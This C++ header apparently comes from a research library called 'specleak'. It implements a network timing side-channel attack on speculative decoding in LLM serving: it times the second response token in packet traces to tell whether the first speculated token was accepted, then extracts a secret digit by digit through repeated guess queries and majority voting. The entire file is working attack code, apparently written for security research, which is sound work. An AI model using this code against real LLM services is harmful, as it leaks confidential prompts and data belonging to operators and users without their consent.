#pragma once

#include <algorithm>
#include <array>
#include <cstdint>
#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "specleak/capture/signature.hpp"
#include "specleak/common.hpp"
#include "specleak/wirechan/trace.hpp"

namespace specleak::attacks {

/// Delay between the first and second response tokens. Without a size model
/// every packet counts as one token.
inline std::int64_t second_token_delay(const Trace& trace,
                                       const std::optional<capture::SizeClusterModel>& sizes = std::nullopt) {
  if (sizes) {
    const auto sig = capture::reconstruct_token_delays(trace, *sizes);
    if (sig.inter_token_delays.empty()) throw Error("trace-too-short", ErrorKind::data, "fewer than two tokens");
    return sig.inter_token_delays.front();
  }
  return capture::ipd(trace).front();
}

enum class FirstToken { accepted, rejected };

/// Accept/reject classifier for the first speculation round.
struct SecondTokenOracle {
  double threshold_ns = 12e6;
  std::optional<capture::SizeClusterModel> sizes;

  FirstToken operator()(const Trace& trace) const {
    return static_cast<double>(second_token_delay(trace, sizes)) < threshold_ns ? FirstToken::accepted
                                                                                 : FirstToken::rejected;
  }
};

/// Threshold at the midpoint of the two calibration class means.
inline SecondTokenOracle calibrate_second_token_oracle(const std::vector<Trace>& accepted,
                                                       const std::vector<Trace>& rejected,
                                                       std::optional<capture::SizeClusterModel> sizes = std::nullopt) {
  if (accepted.empty() || rejected.empty())
    throw Error("empty-class", ErrorKind::data, "calibration needs both outcomes");
  auto mean_delay = [&](const std::vector<Trace>& ts) {
    double s = 0;
    for (const auto& t : ts) s += static_cast<double>(second_token_delay(t, sizes));
    return s / static_cast<double>(ts.size());
  };
  return SecondTokenOracle{0.5 * (mean_delay(accepted) + mean_delay(rejected)), std::move(sizes)};
}

/// Asks "is digit `position` equal to `guess`?" and returns the response trace.
using DigitQuery = std::function<Trace(std::size_t position, int guess, std::uint64_t rep)>;

struct DigitVotes {
  std::array<int, 10> fast{};  // accepted-first-token count per guess
  int best = 0;
  int margin = 0;  // top count minus runner-up
  bool ambiguous = false;
  std::vector<int> candidates;
};

struct Extraction {
  std::string digits;
  std::vector<DigitVotes> positions;

  bool confident() const {
    return std::none_of(positions.begin(), positions.end(), [](const DigitVotes& v) { return v.ambiguous; });
  }
  /// Fraction of positions decided without ambiguity.
  double confidence() const {
    if (positions.empty()) return 1.0;
    const auto ok = std::count_if(positions.begin(), positions.end(), [](const DigitVotes& v) { return !v.ambiguous; });
    return static_cast<double>(ok) / static_cast<double>(positions.size());
  }
};

struct ExtractConfig {
  std::size_t digits = 3;
  std::size_t reps = 9;
  int ambiguity_margin = 2;
};

/// Votes on every guess at every position. A position is ambiguous when the
/// vote margin is below `ambiguity_margin` or the number of guesses answered
/// "fast" by a strict majority of reps is not exactly one; its candidate set
/// then holds every guess within one vote of the top.
inline Extraction extract_secret(const DigitQuery& query, const SecondTokenOracle& oracle, const ExtractConfig& cfg) {
  if (cfg.reps == 0) throw Error("bad-config", ErrorKind::config, "reps must be >= 1");
  Extraction out;
  for (std::size_t pos = 0; pos < cfg.digits; ++pos) {
    DigitVotes v;
    for (int g = 0; g < 10; ++g)
      for (std::size_t r = 0; r < cfg.reps; ++r)
        v.fast[static_cast<std::size_t>(g)] += oracle(query(pos, g, r)) == FirstToken::accepted;
    v.best = static_cast<int>(std::max_element(v.fast.begin(), v.fast.end()) - v.fast.begin());
    const int top = v.fast[static_cast<std::size_t>(v.best)];
    int second = 0;
    for (int g = 0; g < 10; ++g)
      if (g != v.best) second = std::max(second, v.fast[static_cast<std::size_t>(g)]);
    v.margin = top - second;
    const auto majority = std::count_if(v.fast.begin(), v.fast.end(),
                                        [&](int c) { return 2 * static_cast<std::size_t>(c) > cfg.reps; });
    v.ambiguous = v.margin < cfg.ambiguity_margin || majority != 1;
    if (v.ambiguous) {
      for (int g = 0; g < 10; ++g)
        if (v.fast[static_cast<std::size_t>(g)] >= top - 1) v.candidates.push_back(g);
    } else {
      v.candidates = {v.best};
    }
    out.digits.push_back(static_cast<char>('0' + v.best));
    out.positions.push_back(std::move(v));
  }
  return out;
}

/// Every digit string consistent with the per-position candidate sets, in
/// lexicographic order, up to `limit` entries.
inline std::vector<std::string> candidate_secrets(const Extraction& e, std::size_t limit = 10000) {
  std::vector<std::string> out{""};
  for (const auto& pos : e.positions) {
    std::vector<std::string> next;
    for (const auto& prefix : out)
      for (int g : pos.candidates) {
        if (next.size() >= limit) break;
        next.push_back(prefix + static_cast<char>('0' + g));
      }
    out = std::move(next);
  }
  return out;
}

}  // namespace specleak::attacks
